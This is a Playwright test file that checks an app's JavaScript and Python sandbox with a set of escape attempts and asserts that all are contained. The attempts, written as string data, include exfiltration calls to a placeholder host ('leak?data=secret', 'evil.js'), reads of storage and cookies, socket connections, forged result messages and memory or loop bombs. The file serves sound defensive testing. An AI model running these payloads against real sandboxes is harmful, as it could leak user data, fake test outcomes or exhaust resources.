/**
 * The isolation proof: a corpus of escape attempts in JavaScript and Python
 * run through the real sandbox in the production app page (its real CSP).
 * Each attempt prints ESCAPED if it got through; none may, no request may
 * reach another host, and the app's IndexedDB is the same afterwards.
 */
import http from 'node:http';
import { test, expect, runSeed } from './fixtures';
import { attachRunner } from '../scripts/eval/runner-browser';

// These tests are about the runner, so answers' code runs as soon as an answer is complete, as in the product.
test.use({ autoRunCode: true });

const TABLES = [
  'conversations',
  'messages',
  'runs',
  'signals',
  'patterns',
  'memories',
  'projects',
  'projectFiles',
  'contributions',
  'settings',
  'events',
  'drafts',
];

function js(body: string): string {
  return `const report = (ok, what) => console.log((ok ? 'ESCAPED: ' : 'contained: ') + what);\n${body}`;
}

const JS_ATTEMPTS: { name: string; code: string; timeout?: boolean }[] = [
  {
    name: 'reads parent, top and the DOM',
    code: js(
      "report(typeof parent !== 'undefined' || typeof top !== 'undefined' || typeof document !== 'undefined' || typeof window !== 'undefined', 'window/parent/top/document');",
    ),
  },
  {
    name: "opens the app's IndexedDB",
    code: js(
      "try { const r = indexedDB.open('codelumi'); await new Promise((ok, no) => { r.onsuccess = ok; r.onerror = no; }); report(true, 'indexedDB'); } catch (e) { report(false, 'indexedDB ' + e.name); }",
    ),
  },
  {
    name: 'reads localStorage and cookies',
    code: js(
      "report(typeof localStorage !== 'undefined' || typeof sessionStorage !== 'undefined', 'storage'); try { report(!!document.cookie, 'cookie'); } catch (e) { report(false, 'cookie ' + e.name); }",
    ),
  },
  {
    name: 'fetches the app origin',
    code: js(
      "for (const u of ['APP/', 'APP/settings/', 'APP/runner/../index.html']) { try { await fetch(u); report(true, 'fetch ' + u); } catch (e) { report(false, 'fetch ' + u); } }",
    ),
  },
  {
    name: 'fetches another host',
    code: js(
      "try { await fetch('OTHER/leak?data=secret'); report(true, 'fetch other'); } catch (e) { report(false, 'fetch other'); }\ntry { const x = new XMLHttpRequest(); x.open('GET', 'OTHER/xhr', false); x.send(); report(true, 'xhr'); } catch (e) { report(false, 'xhr ' + e.name); }\ntry { navigator.sendBeacon('OTHER/beacon', 'x') ? report(true, 'beacon') : report(false, 'beacon refused'); } catch (e) { report(false, 'beacon ' + e.name); }",
    ),
  },
  {
    name: 'opens sockets and event streams to another host',
    code: js(
      "try { const ws = new WebSocket('OTHER'.replace('http', 'ws') + '/ws'); await new Promise((ok, no) => { ws.onopen = ok; ws.onerror = no; }); report(true, 'websocket'); } catch (e) { report(false, 'websocket'); }\ntry { const es = new EventSource('OTHER/es'); await new Promise((ok, no) => { es.onopen = ok; es.onerror = no; }); report(true, 'eventsource'); } catch (e) { report(false, 'eventsource'); }",
    ),
  },
  {
    name: 'loads scripts from another host',
    code: js(
      "try { importScripts('OTHER/evil.js'); report(true, 'importScripts'); } catch (e) { report(false, 'importScripts ' + e.name); }\ntry { await import('OTHER/evil.mjs'); report(true, 'import()'); } catch (e) { report(false, 'import()'); }",
    ),
  },
  {
    name: 'opens a window or navigates the app',
    code: js(
      "report(typeof open === 'function' && !!open('OTHER/popup'), 'window.open');\ntry { location.href = 'OTHER/nav'; report(location.href.startsWith('OTHER'), 'navigation'); } catch (e) { report(false, 'navigation ' + e.name); }",
    ),
  },
  {
    name: 'forges messages to the sandbox and the app',
    code: js(
      "postMessage({ type: 'result', runId: 'x', status: 'ok', passed: 99, failed: 0, durationMs: 1, truncated: false });\npostMessage({ type: 'done', runId: 'x', summary: { passed: 99, failed: 0 }, durationMs: 1, truncated: false });\nconst bc = new BroadcastChannel('codelumi'); bc.postMessage({ kind: 'forged' }); report(false, 'postMessage sent (the run must still count 0 tests)');",
    ),
  },
  {
    name: 'escapes through a nested worker, eval or a service worker',
    code: js(
      "try { const w = new Worker(URL.createObjectURL(new Blob([\"fetch('OTHER/nested').then(() => postMessage('ESCAPED'), () => postMessage('contained'))\"]))); const m = await new Promise((r) => { w.onmessage = (e) => r(e.data); w.onerror = () => r('contained'); }); report(m === 'ESCAPED', 'nested worker'); } catch (e) { report(false, 'nested worker ' + e.name); }\ntry { eval('1'); report(true, 'eval'); } catch (e) { report(false, 'eval ' + e.name); }\ntry { await navigator.serviceWorker.register('/sw.js'); report(true, 'service worker'); } catch (e) { report(false, 'service worker'); }\ntry { await caches.open('codelumi'); report(true, 'cache storage'); } catch (e) { report(false, 'cache storage ' + e.name); }",
    ),
  },
  { name: 'loops forever', code: 'while (true) {}', timeout: true },
  { name: 'floods the output', code: "for (;;) console.log('x'.repeat(1000));", timeout: true },
  { name: 'allocates memory without end', code: 'const hog = [];\nfor (;;) hog.push(new Array(1e6).fill(7));' },
];

function py(body: string): string {
  return `def report(ok, what):\n    print(('ESCAPED: ' if ok else 'contained: ') + what)\n\n${body}`;
}

const PY_ATTEMPTS: { name: string; code: string; timeout?: boolean }[] = [
  {
    name: 'Python js module reaches parent, document and storage',
    code: py(
      "import js\nfor name in ['parent', 'top', 'document', 'localStorage', 'window']:\n    report(hasattr(js, name), 'js.' + name)\ntry:\n    js.indexedDB.open('codelumi')\n    report(False, 'indexedDB open did not throw at once (checked via the app dump)')\nexcept Exception as e:\n    report(False, 'indexedDB ' + type(e).__name__)",
    ),
  },
  {
    name: 'Python js module fetches the app and another host',
    code: py(
      "import js\nfor url in ['APP/', 'OTHER/py-leak']:\n    try:\n        x = js.XMLHttpRequest.new()\n        x.open('GET', url, False)\n        x.send()\n        report(True, 'xhr ' + url)\n    except Exception as e:\n        report(False, 'xhr ' + url)\ntry:\n    js.eval('1')\n    report(True, 'js.eval')\nexcept Exception as e:\n    report(False, 'js.eval')\ntry:\n    js.postMessage(js.JSON.parse('{\"type\": \"result\", \"runId\": \"x\", \"status\": \"ok\", \"passed\": 99, \"failed\": 0, \"durationMs\": 1, \"truncated\": false}'))\n    report(False, 'forged postMessage sent')\nexcept Exception as e:\n    report(False, 'postMessage ' + type(e).__name__)",
    ),
  },
  {
    name: 'Python urllib and sockets',
    code: py(
      "try:\n    import urllib.request\n    urllib.request.urlopen('OTHER/urllib', timeout=2)\n    report(True, 'urllib')\nexcept Exception as e:\n    report(False, 'urllib ' + type(e).__name__)\nimport socket\n# Emscripten emulates sockets over WebSockets, which the CSP blocks: a socket may look open, but no byte gets through.\ntry:\n    s = socket.create_connection(('127.0.0.1', OTHER_PORT), timeout=2)\n    s.sendall(b'GET /socket HTTP/1.0\\r\\n\\r\\n')\n    data = s.recv(100)\n    report(len(data) > 0, 'socket answered ' + repr(data[:20]))\nexcept Exception as e:\n    report(False, 'socket ' + type(e).__name__)",
    ),
  },
  { name: 'Python loops forever', code: 'while True:\n    pass', timeout: true },
  {
    name: 'Python allocates memory without end',
    code: 'hog = []\nwhile True:\n    hog.append(bytearray(50 * 1024 * 1024))',
  },
];

test.describe('sandbox isolation', () => {
  test.setTimeout(480_000);

  // One test per language, so the two can run at once (in one test they were the suite's longest, about 3 minutes).
  for (const [language, name, attempts] of [
    ['javascript', 'JavaScript', JS_ATTEMPTS],
    ['python', 'Python', PY_ATTEMPTS],
  ] as const) {
    test(`contains every escape attempt in ${name} and leaves the app data unchanged`, async ({
      page,
      app,
      openApp,
      seed,
    }) => {
      const hits: string[] = [];
      const other = http.createServer((req, res) => {
        hits.push(req.url ?? '');
        res.setHeader('Access-Control-Allow-Origin', '*');
        res.end('leaked');
      });
      await new Promise<void>((r) => other.listen(0, '127.0.0.1', () => r()));
      const OTHER = `http://127.0.0.1:${(other.address() as { port: number }).port}`;
      try {
        await seed((t) =>
          t.seedConversation({
            title: 'Secret plans',
            turns: [{ question: 'my api key is sk-123', answer: 'keep it safe' }],
          }),
        );
        await openApp('/settings/');
        const dump = () => seed((t, names: string[]) => Promise.all(names.map((n) => t.table(n))), TABLES);
        const before = await dump();
        const forged: unknown[] = [];
        await page.exposeFunction('__forgedSeen', (m: unknown) => void forged.push(m));
        await page.evaluate(() => {
          new BroadcastChannel('codelumi').onmessage = (e) =>
            (window as unknown as { __forgedSeen(m: unknown): void }).__forgedSeen(e.data);
        });
        const runner = await attachRunner(page);
        const fill = (code: string) =>
          code.replaceAll('APP', app.url).replaceAll('OTHER_PORT', OTHER.split(':').pop()!).replaceAll('OTHER', OTHER);

        for (const a of attempts) {
          const r = await runner.run({ language, code: fill(a.code), timeLimitMs: a.timeout ? 3000 : 20_000 });
          const out = r.stdout + r.stderr;
          expect(out, a.name).not.toContain('ESCAPED');
          expect(r.passed, a.name).toBe(0);
          if (a.timeout) expect([r.status, a.name]).toEqual(['timeout', a.name]);
          else if (r.status === 'ok') expect(out, a.name).toContain('contained: ');
          // The sandbox still works after each attempt.
          const after = await runner.run({
            language,
            code: language === 'python' ? "print('alive')" : "console.log('alive')",
          });
          expect([after.status, after.stdout, a.name]).toEqual(['ok', 'alive\n', a.name]);
        }

        expect(hits).toEqual([]);
        expect(forged).toEqual([]);
        // The memory bomb killed the sandbox's process, which Playwright reports as a crash of
        // the page it belongs to; the app itself lives on. Its data is read from a fresh page.
        const check = await page.context().newPage();
        await check.goto(`${app.url}/settings/`);
        await expect(check.getByRole('heading', { name: 'Settings' })).toBeVisible();
        const after = await runSeed(check, (t, names: string[]) => Promise.all(names.map((n) => t.table(n))), TABLES);
        expect(after).toEqual(before);
      } finally {
        await new Promise<void>((r) => other.close(() => r()));
      }
    });
  }
});
